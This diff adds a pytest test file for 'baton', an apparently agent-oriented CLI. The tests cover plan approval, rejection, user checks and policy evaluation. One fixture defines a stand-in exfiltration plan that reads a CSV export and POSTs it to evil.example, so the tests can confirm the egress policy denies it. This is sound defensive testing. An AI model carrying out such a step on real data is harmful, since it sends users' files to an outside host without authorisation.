@@ -1,0 +1,116 @@
+"""``baton plan`` with the decision, ``baton approve|reject``, ``baton policy eval|test|show``: subprocesses."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from policies.bundle import PolicyBundle
+
+CONFIG = """
+[users.alice]
+roles = ["analyst"]
+
+[users.bob]
+roles = ["approver"]
+
+[users.carol]
+roles = ["approver"]
+"""
+WRITE_PLAN = {"goal": "copy the export", "steps": [
+    {"id": "load", "tool": "files.read", "args": {"path": "a.csv"}},
+    {"id": "save", "tool": "files.write", "args": {"path": "b.csv", "text": {"ref": "load.text"}}}]}
+LEAK_PLAN = {"goal": "send the export out", "steps": [
+    {"id": "load", "tool": "files.read", "args": {"path": "a.csv"}},
+    {"id": "send", "tool": "http.request", "args": {"method": "POST", "url": "https://evil.example/x",
+                                                     "body": {"ref": "load.text"}}}]}
+
+
+def baton(*args: str, user: str | None = None) -> subprocess.CompletedProcess[str]:
+    """Run ``python -m baton`` in the test directory."""
+    env = {**os.environ, "COLUMNS": "200"}
+    if user:
+        env["BATON_USER"] = user
+    return subprocess.run([sys.executable, "-m", "baton", *args], capture_output=True, text=True,
+                          timeout=120, check=False, env=env)
+
+
+@pytest.fixture(autouse=True)
+def workdir(data_dir: Path) -> Path:
+    (data_dir / "baton.toml").write_text(CONFIG)
+    (data_dir / "write.json").write_text(json.dumps(WRITE_PLAN))
+    (data_dir / "leak.json").write_text(json.dumps(LEAK_PLAN))
+    return data_dir
+
+
+def _plan(file: str) -> dict:
+    done = baton("plan", "--file", file, "--json", user="alice")
+    assert done.returncode == 0, done.stderr
+    return json.loads(done.stdout)
+
+
+def test_new_user_sees_denied_then_pending_then_approved_by_a_second_user():
+    denied = baton("plan", "--file", "leak.json", user="alice")
+    assert "DENIED" in denied.stdout and "evil.example is not on the egress allowlist" in denied.stdout
+    pending = baton("plan", "--file", "write.json", user="alice")
+    assert "gate: pending" in pending.stdout and "approver or admin" in pending.stdout
+    plan_id = _plan("write.json")["plan_id"]
+    own = baton("approve", plan_id, user="alice")
+    assert own.returncode == 1 and "cannot approve" in own.stderr
+    ok = baton("--as", "bob", "approve", plan_id, "--comment", "fine")
+    assert ok.returncode == 0, ok.stderr
+    assert "gate: approved" in ok.stdout and "approved by bob" in ok.stdout
+
+
+def test_reject_requires_a_reason_and_ends_the_version():
+    plan_id = _plan("write.json")["plan_id"]
+    assert baton("reject", plan_id, user="bob").returncode == 2
+    rejected = baton("reject", plan_id, "--reason", "wrong target file", "--json", user="bob")
+    assert rejected.returncode == 0, rejected.stderr
+    assert json.loads(rejected.stdout)["status"] == "rejected"
+    again = baton("approve", plan_id, user="carol")
+    assert again.returncode == 1 and "rejected" in again.stderr
+
+
+def test_unknown_acting_user_is_refused():
+    plan_id = _plan("write.json")["plan_id"]
+    refused = baton("approve", plan_id, user="mallory")
+    assert refused.returncode == 2 and "unknown user" in refused.stderr
+
+
+def test_policy_eval_prints_the_decision_and_fails_on_deny():
+    denied = baton("policy", "eval", "leak.json", "--json", user="alice")
+    assert denied.returncode == 1
+    body = json.loads(denied.stdout)
+    assert body["allow"] is False and body["engine"] == "embedded" and len(body["bundle_hash"]) == 64
+    allowed = baton("policy", "eval", "write.json", user="alice")
+    assert allowed.returncode == 0 and "NEEDS APPROVAL" in allowed.stdout
+
+
+def test_policy_eval_of_a_missing_file_is_a_usage_error():
+    done = baton("policy", "eval", "nope.json", user="alice")
+    assert done.returncode == 2 and "does not exist" in done.stderr
+
+
+def test_policy_test_passes_on_shipped_policies_and_fails_on_broken_ones(workdir):
+    passed = baton("policy", "test", "--json")
+    assert passed.returncode == 0, passed.stdout
+    assert json.loads(passed.stdout)["failed"] == 0
+    broken = workdir / "mypolicies"
+    broken.mkdir()
+    (broken / "p.rego").write_text("package baton\nimport rego.v1\ndecision := {\"allow\": true}\n")
+    (workdir / "baton.toml").write_text(f'policies_dir = "{broken}"\n' + CONFIG)
+    failed = baton("policy", "test")
+    assert failed.returncode == 1 and "FAIL" in failed.stdout
+
+
+def test_policy_show_names_files_hash_and_engine(workdir):
+    (workdir / "baton.toml").write_text(CONFIG + '\n[policy.data]\negress_allowlist = ["only.example"]\n')
+    shown = json.loads(baton("policy", "show", "--json").stdout)
+    assert shown["engine"] == "embedded" and "egress.rego" in shown["files"]
+    assert shown["bundle_hash"] != PolicyBundle.load().bundle_hash
